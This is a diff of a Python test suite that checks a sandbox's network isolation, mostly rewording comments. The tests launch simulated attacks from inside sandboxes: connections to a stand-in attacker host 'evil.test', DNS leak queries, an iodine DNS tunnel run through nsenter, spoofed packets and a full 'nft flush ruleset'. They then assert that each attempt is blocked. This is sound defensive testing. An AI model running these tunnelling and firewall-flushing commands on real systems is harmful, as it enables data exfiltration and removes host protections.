@@ -1,8 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
-"""What sandboxes reach, and what not (security.md 3.9), in a world of the test's own (lib/world.py).
-
-The numbers are those of the catalogue. Attackers inside are root of the sandbox; where that is too
-weak for an attack, the test itself attacks from the sandbox's net namespace as root of the host.
+"""What sandboxes can reach, and what not (security.md 3.9), in a test world (lib/world.py). The numbers are those of
+the catalogue. Attackers inside are root of the sandbox; where that is too weak for an attack, the test itself
+attacks from the sandbox's net namespace as root of the host.
 """
 
 import json
@@ -198,7 +197,7 @@ def test_denied_https_is_explained(net, box):
                  f"try: say(urllib.request.urlopen('https://{EVIL}/').status)\n"
                  "except urllib.error.HTTPError as e: say([e.code, json.load(e)['error']['port']])")
     assert got == [403, 443]
-    # Who trusts nothing of ours sees a certificate error, and the list still says why.
+    # A client that does not trust our authority sees a certificate error, and the list still has the reason.
     done = box.sh(f"curl -sS -m 20 --cacert /etc/ssl/cay/before.pem --resolve evil.test:443:{EVIL} https://evil.test/")
     assert done.exit_code in (60, 77), done
     assert box.denied(host="evil.test", port=443, protocol="tls", reason="not_allowed")[0]["count"] >= 3
@@ -214,7 +213,7 @@ def total(box, host):
 
 
 def test_refused_name_counts_once(net):
-    """The lookup for both families and the connection behind it are one attempt; each further one is one more."""
+    """The lookup for both families and the following connection are one attempt; each further one is one more."""
     with open_box(net) as box:
         assert code(box, "http://evil.test/") == ("403", 0)
         assert total(box, "evil.test") == 1, box.denials()
@@ -222,7 +221,7 @@ def test_refused_name_counts_once(net):
         assert total(box, "other.test") == 1, box.denials()
         assert code(box, "http://evil.test/") == ("403", 0)
         assert total(box, "evil.test") == 2, box.denials()
-        # A lookup alone, and what is no HTTP: known by the lookup.
+        # A lookup alone, and traffic other than HTTP: known by the lookup.
         box.sh("getent ahostsv4 alone.evil.test")
         assert total(box, "alone.evil.test") == 1, box.denials()
         assert box.py("say(tcp('raw.evil.test', 2222, b'\\0\\1\\2'))") == "ECONNRESET"
@@ -235,7 +234,7 @@ def test_refused_name_counts_once(net):
 @pytest.mark.parametrize("policy", [{"allow": ["0.0.0.0/0"]}, {"allow": ["100.64.0.0/10"]}, {"mode": "full", "deny": ["evil.test"]},
                                     {"allow": ["*.evil.test", "100.96.0.0/11:80"], "deny": ["evil.test"]}])
 def test_no_rule_opens_the_sink(net, policy):
-    """Whatever the lists say, and whatever name is said there: refused."""
+    """Whatever the lists contain, and whatever name is used there: refused."""
     with open_box(net, **policy) as box:
         sink = box.py("say(socket.gethostbyname('evil.test'))")
         assert sink.startswith("100.") and sink.endswith(".255.254")
@@ -259,7 +258,7 @@ def test_allowed_after_a_refusal(net):
 
 
 def test_denied_https_storm_is_cheap(net, box):
-    """Beyond a pace the rest gets the bare alert: no signature, no handshake."""
+    """Beyond a rate the rest gets only an alert: no signature, no handshake."""
     found = box.py(
         "import collections; got = collections.Counter()\n"
         "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
@@ -304,7 +303,7 @@ def test_learn(net):
         assert "evil.test" in net.daemon.command("net", "denials", box.id).stdout
 
 
-# ---- NET-03, NET-04, NET-05: names that lie ----
+# ---- NET-03, NET-04, NET-05: false names ----
 
 @pytest.mark.parametrize("url,options", [
     ("https://allowed.test/", f"-k --resolve allowed.test:443:{EVIL}"),  # SNI allowed, address the attacker's
@@ -339,7 +338,7 @@ OTHER = b"GET /kept-other HTTP/1.1\r\nHost: evil.test\r\n\r\n"
     (FIRST, b"\r\n\r\n" + OTHER),
 ])
 def test_NET_03_later_request(net, box, first, then):
-    """Kept alive, the connection goes on to be one of allowed names: every request's Host counts."""
+    """On a kept-alive connection, the Host of every request is checked."""
     box.py("say(socket.gethostbyname('allowed.test'))")
     got = box.py(f"first, then = {first!r}, {then!r}\n"
                  f"s = socket.create_connection(('{GOOD}', 80), 20); s.settimeout(20); s.sendall(first)\n"
@@ -445,7 +444,7 @@ def ping(host, wait=10):
 
 
 def test_full_is_all_protocols(net):
-    """UDP and ping to the outside; what is near stays shut, and is told."""
+    """UDP and ping to the outside; private networks stay closed, and denials are reported."""
     def forwarding(link="wan"):
         return open(f"/proc/sys/net/ipv4/conf/{link}/forwarding").read().strip()
 
@@ -453,7 +452,7 @@ def test_full_is_all_protocols(net):
         assert box.py(DATAGRAM + f"say([udp('{EVIL}', 9999), ping('{EVIL}')])") == ["knock", "knock"]
         assert code(box, "http://evil.test/") == ("200", 0)
         assert code(box, "https://evil.test/", "-k") == ("200", 0)
-        # The link that leads outside forwards; the host as a whole does not, nor anybody else through it.
+        # The link to the outside forwards; the host as a whole does not, nor for any other traffic.
         assert forwarding() == "1" and open("/proc/sys/net/ipv4/ip_forward").read().strip() == "0"
         rules = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout
         assert re.search(r'iifname "wan" oifname != "cay\*" drop', rules), rules
@@ -468,10 +467,10 @@ def test_full_is_all_protocols(net):
         wait(lambda: box.denied(host=PRIVATE, port=9999, protocol="udp", reason="private_address"))
         wait(lambda: box.denied(host=METADATA, protocol="icmp", reason="host_address"))
         wait(lambda: box.denied(host=HOST, port=9999, protocol="udp", reason="host_address"))
-        # DNS is ours whatever server is asked: every public name, and nothing that leads inside.
+        # All DNS goes to us, whatever server is asked: every public name, and none that leads inside.
         assert box.py(f"say(socket.gethostbyname('evil.test'))") == EVIL
         assert box.py("try: say(socket.gethostbyname('intern.test'))\nexcept OSError: say(None)") is None
-        # With names to deny only the proxy can tell: then no other way is open.
+        # With denied names only the proxy can decide: then no other way is open.
         box.patch(deny=["other.test"])
         assert box.py(DATAGRAM + f"say(udp('{EVIL}', 9999, 2))") != "knock"
         wait(lambda: box.denied(host=EVIL, port=9999, protocol="udp", reason="protocol"))
@@ -482,7 +481,7 @@ def test_full_is_all_protocols(net):
 
 
 def test_full_neighbours(net):
-    """Two of them, routed both, do not meet; nor does a stranger in the world get in."""
+    """Two routed sandboxes do not reach each other; nor can a host of the world reach them."""
     with open_box(net, mode="full", allow=[]) as one, open_box(net, mode="full", allow=[]) as two:
         two.sh("python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
                " s.bind(('', 7000)); d, a = s.recvfrom(9); open('/tmp/got', 'wb').write(d)\" >/dev/null 2>&1 & sleep 0.2")
@@ -559,9 +558,9 @@ def test_NET_08_only_allowed_names_leave(net, box):
     assert set(codes) <= {0, 1, 3, 5}, codes
     assert box.py(ASK + "say(ask('192.0.2.53', b'tunnel.test', 1, True))") == [0, 1]  # the sink
     assert box.py(ASK + "say([ask('192.0.2.53', b'tunnel.test', k) for k in (28, 16, 10, 65)])") == [[0, 0]] * 4
-    # Whether a name exists cannot be told from the answer, nor anything else: it is always the same one.
+    # The reply does not reveal whether a name exists, or anything else: it is always the same.
     assert box.py("say(len({socket.gethostbyname(n) for n in ('evil.test', 'nosuch.test', 'a.b.tunnel.test')}))") == 1
-    # Any server is ours: a question to another one never leaves.
+    # We answer for any server: a question to another one never leaves.
     assert box.py(ASK + f"say([ask('{EVIL}', b'leak.evil.test'), ask('8.8.8.8', b'leak.evil.test')])") == [[0, 1], [0, 1]]
     assert len(net.seen("dns")) == before
     # Of an allowed name nothing but the address is ever asked for.
@@ -582,7 +581,7 @@ def test_NET_08_other_ways_to_resolve(net, box):
 
 
 def test_NET_08_flood(net, box):
-    """A thousand questions: bounded, and nobody else waits."""
+    """A thousand questions: bounded, and other clients do not wait."""
     flood = "\nfor i in range(1000):\n  s.send(q.replace(b'0000', b'%04d' % i))\n"
     box.py("q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\\x08name0000\\x04evil\\x04test\\0\\0\\x01\\0\\x01'\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('192.0.2.53', 53))" + flood + "say(1)")
@@ -594,7 +593,7 @@ def test_NET_08_flood(net, box):
 
 @pytest.mark.skipif(not shutil.which("iodine"), reason="iodine is not installed (make deps)")
 def test_NET_08_iodine(net, box):
-    """A real tunnel, driven with the power of the host's root inside the sandbox's network."""
+    """A real tunnel, with the privileges of the host's root inside the sandbox's network."""
     argv = ["nsenter", "-t", box.pid(), "-n", "iodine", "-f", "-r", "-P", "x", "192.0.2.53", "t.evil.test"]
     before = len(net.seen("dns"))
     client = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
@@ -636,14 +635,14 @@ def test_NET_09_no_ipv6(net, mode):
                      "    except OSError as e: found.append(errno.errorcode.get(e.errno, str(e)))\n"
                      "say(found)")
         assert set(got) <= {"ENETUNREACH", "EINVAL", "EADDRNOTAVAIL"}, got
-        # AAAA of an allowed name: it exists, without addresses; nobody outside is asked.
+        # AAAA of an allowed name: it exists, without addresses; no outside server is asked.
         found = box.py("try: socket.getaddrinfo('allowed.test', 80, socket.AF_INET6); say('found')\n"
                        "except socket.gaierror as e: say(e.errno in (socket.EAI_NODATA, socket.EAI_NONAME))")
         assert found is True
         assert not net.seen("dns", type=28)
         rules = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout
         assert "meta nfproto != ipv4 drop" in rules
-        # Where the inside of the link is not quiet, the host drops it: as its root, with an address and a route.
+        # If the inside of the link is not quiet, the host drops it: as its root, with an address and a route.
         enter = ["nsenter", "-t", box.pid(), "-n"]
         subprocess.run([*enter, "ip", "addr", "add", "fd00::2/64", "dev", "eth0", "nodad"], check=True)
         subprocess.run([*enter, "ip", "-6", "route", "add", "default", "dev", "eth0"], check=True)
@@ -651,7 +650,7 @@ def test_NET_09_no_ipv6(net, mode):
         assert not net.seen("udp", address="2606:2800:220:1::1")
 
 
-def test_NET_09_ipv6_of_a_denied_name_is_told(net, box):
+def test_NET_09_ipv6_of_a_denied_name_is_explained(net, box):
     host = f"only-six-{time.time_ns()}.evil.test"
     box.py(f"try: socket.getaddrinfo('{host}', 80, socket.AF_INET6)\nexcept OSError: say(1)")
     assert box.denied(host=host, protocol="dns", reason="not_allowed")
@@ -692,7 +691,7 @@ def test_NET_11_spoofed_source(net, box):
         done = subprocess.run(["nsenter", "-t", box.pid(), "-n", "/usr/bin/python3", "-c", script, GOOD, other.address(),
                                HOST, GOOD, "127.0.0.1", "100.96.0.1"], capture_output=True, text=True)
         assert done.returncode == 0, done
-        # An honest question behind them has been answered: had they been let through, so had they.
+        # A correct question after them was answered, so they would have arrived as well if they had passed.
         assert box.py("say(socket.gethostbyname('www.allowed.test'))") == GOOD
         assert [e["name"] for e in net.seen("dns")[before:]] == ["www.allowed.test"]
 
@@ -742,7 +741,7 @@ def check_policy(box):
 
 
 def test_NET_15_first_packet(net):
-    """The first thing that runs is refused as everything after it."""
+    """The first program is refused like everything after it."""
     for _ in range(5):
         with net.daemon.client.sandbox(network={"mode": "restricted", "allow": ["allowed.test"]}) as sandbox:
             done = sandbox.exec(["python3", "-c", PRELUDE + f"say(tcp('{EVIL}', 2525))"])
@@ -752,7 +751,7 @@ def test_NET_15_first_packet(net):
 
 @pytest.fixture(autouse=True)
 def count_banners(request):
-    """Of mode full's own test: what was let through before."""
+    """For the test of mode full: what was let through before."""
     if "net" in request.fixturenames:
         net = request.getfixturevalue("net")
         net.banners = net.seen("banner", address=EVIL)
@@ -815,7 +814,7 @@ def wait(condition, seconds=15):
 
 @pytest.mark.parametrize("name", ["cayd", "cay-warden"])
 def test_NET_16_killed(net, name):
-    """Without the daemon nothing is open; without the warden nothing changes; both come back."""
+    """Without the daemon nothing is open; without the warden nothing changes; both return."""
     daemon = net.daemon
     with open_box(net) as box:
         pid = box.pid()
@@ -845,7 +844,7 @@ def test_NET_16_killed(net, name):
 
 
 def test_NET_16_nothing_stays_of_a_killed_warden():
-    """Killed after its last sandbox had ended, with links in stock: the next one clears all away."""
+    """Killed after its last sandbox had ended, with links in stock: the next one removes everything."""
     def shown(*words):
         return subprocess.run(words, capture_output=True, text=True).stdout
 
@@ -864,7 +863,7 @@ def test_NET_16_nothing_stays_of_a_killed_warden():
 
 
 def test_NET_16_rules_survive_a_flush(net, box):
-    """Somebody reloads the host's firewall."""
+    """An administrator reloads the host's firewall."""
     check_policy(box)
     subprocess.run(["nft", "flush", "ruleset"], check=False, capture_output=True)
     check_policy(box)
